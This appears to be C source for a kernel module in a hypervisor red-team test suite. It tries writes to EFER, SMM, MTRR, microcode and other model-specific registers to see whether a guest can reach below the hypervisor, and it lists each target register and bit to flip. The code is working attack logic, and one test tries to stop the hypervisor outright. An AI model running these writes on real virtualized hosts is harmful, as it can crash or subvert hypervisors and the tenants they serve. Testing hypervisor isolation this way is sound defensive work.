// SPDX-License-Identifier: MIT OR GPL-2.0
/*
 * Model-specific registers that reach below the hypervisor. The write flips some bits of what is
 * there; if the register then reads differently the attack worked, and the old value is put back.
 */
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/slab.h>

#include <asm/msr-index.h>

#include "redteam/root/attack.h"

static struct outcome msr_write(const struct attack *attack)
{
	u32 msr = attack->argument;
	u64 denied = denied_count();
	u64 old = 0, new = 0;
	unsigned long flags;
	int read, wrote;

	local_irq_save(flags);
	read = try_rdmsr(msr, &old);
	wrote = try_wrmsr(msr, old ^ attack->flip);
	if (wrote == NO_FAULT && read == NO_FAULT) {
		read = try_rdmsr(msr, &new);
		try_wrmsr(msr, old);
	}
	local_irq_restore(flags);

	if (wrote != NO_FAULT)
		return below_hypervisor() ? blocked_by(wrote)
					  : outcome(SKIPPED, "bare: this CPU refuses it: %s",
						    fault_name(wrote));
	if (read == NO_FAULT && ((new ^ old) & attack->flip))
		return outcome(SUCCEEDED, "%#llx became %#llx (and was put back)", old, new);
	if (!below_hypervisor())
		return outcome(SKIPPED, "bare: this CPU ignores the write");
	if (denied_count() != denied)
		return outcome(BLOCKED, "ignored");
	return outcome(ERROR, "not refused, not counted, no effect: cannot tell who ignored it");
}

/* A machine that stops being able to run guests stops the hypervisor: VMRUN faults without SVME. */
static struct outcome efer_clear(const struct attack *attack)
{
	u64 efer, set = 0, cleared = 0;
	struct rd_info *info;
	unsigned long flags;
	int fault;
	bool alive;

	local_irq_save(flags);
	fault = try_rdmsr(MSR_EFER, &efer);
	if (!below_hypervisor()) {
		try_wrmsr(MSR_EFER, efer | EFER_SVME);
		try_rdmsr(MSR_EFER, &set);
	}
	fault = try_wrmsr(MSR_EFER, efer & ~(u64)EFER_SVME);
	try_rdmsr(MSR_EFER, &cleared);
	local_irq_restore(flags);

	if (!below_hypervisor())
		return set & ~cleared & EFER_SVME
			       ? outcome(SUCCEEDED, "SVME can be set and cleared")
			       : outcome(SKIPPED, "bare: this CPU has no SVME: use -cpu ...,+svm");
	if (fault != NO_FAULT)
		return blocked_by(fault);
	info = kmalloc(sizeof(*info), GFP_KERNEL);
	alive = info && get_info(info);
	kfree(info);
	return alive ? outcome(BLOCKED, "only our view changed: the hypervisor goes on")
		     : outcome(SUCCEEDED, "the hypervisor answers no more");
}

/*
 * A microcode update of our choice; the register cannot be read, and no CPU takes a page of zeros.
 */
static struct outcome microcode(const struct attack *attack)
{
	void *page = (void *)get_zeroed_page(GFP_KERNEL);
	u64 denied = denied_count();
	int fault;

	if (!page)
		return outcome(ERROR, "no memory");
	fault = try_wrmsr(attack->argument, (unsigned long)page);
	free_page((unsigned long)page);
	if (fault != NO_FAULT)
		return below_hypervisor() ? blocked_by(fault)
					  : outcome(SKIPPED, "bare: %s, as no update was in it",
						    fault_name(fault));
	if (!below_hypervisor())
		return outcome(SUCCEEDED, "the loader was started");
	return denied_count() != denied
		       ? outcome(BLOCKED, "ignored")
		       : outcome(SUCCEEDED, "the loader was started, or refused without a count");
}

const struct attack msr_attacks[] = {
	{ "msr-efer-svme", "SVM instructions of our own", msr_write, MSR_EFER, 1 << 12 },
	{ "msr-efer-clear", "a stopped hypervisor", efer_clear },
	{ "msr-vm-hsave-pa", "the hypervisor's state saved where we want", msr_write, 0xc0010117,
	  0x1000 },
	{ "msr-vm-cr", "INIT and A20 no longer redirected", msr_write, 0xc0010114, 1 << 2 },
	{ "msr-apic-base", "the APIC page laid over memory of our choice", msr_write,
	  MSR_IA32_APICBASE, 0x1000 },
	{ "msr-microcode-amd", "other microcode", microcode, 0xc0010020 },
	{ "msr-microcode-intel", "other microcode", microcode, 0x79 },
	{ "msr-syscfg", "memory types and encryption changed below", msr_write, 0xc0010010,
	  1 << 18 },
	{ "msr-hwcr", "SMM unlocked, INVD that drops data", msr_write, 0xc0010015, 1 << 4 },
	{ "msr-iorr-base", "hypervisor memory routed to devices", msr_write, 0xc0010016, 0x1000 },
	{ "msr-top-mem", "hypervisor memory routed to devices", msr_write, 0xc001001a, 1 << 23 },
	{ "msr-top-mem2", "hypervisor memory routed to devices", msr_write, 0xc001001d, 1 << 23 },
	{ "msr-mmio-config", "PCI configuration laid over memory", msr_write, 0xc0010058, 1 << 20 },
	{ "msr-smm-base", "code in SMM, below the hypervisor", msr_write, 0xc0010111, 0x10000 },
	{ "msr-smm-addr", "SMM memory opened or moved", msr_write, 0xc0010112, 0x20000 },
	{ "msr-smm-mask", "SMM memory opened or moved", msr_write, 0xc0010113, 1 },
	{ "msr-mtrr-default", "the hypervisor's memory made uncached", msr_write, 0x2ff, 1 << 11 },
	{ "msr-mtrr-base", "the hypervisor's memory made uncached", msr_write, 0x20e, 0x1000000 },
	{ "msr-mtrr-mask", "the hypervisor's memory made uncached", msr_write, 0x20f, 0x1000000 },
	{ "msr-mtrr-fixed", "low memory routed to devices", msr_write, 0x250,
	  0x0101010101010101ull },
	{ "msr-sev-status", "a false idea of encryption", msr_write, 0xc0010131, 1 },
	{ "msr-vmpage-flush", "cache lines of others flushed", msr_write, 0xc001011e, 0x1000 },
	{}
};
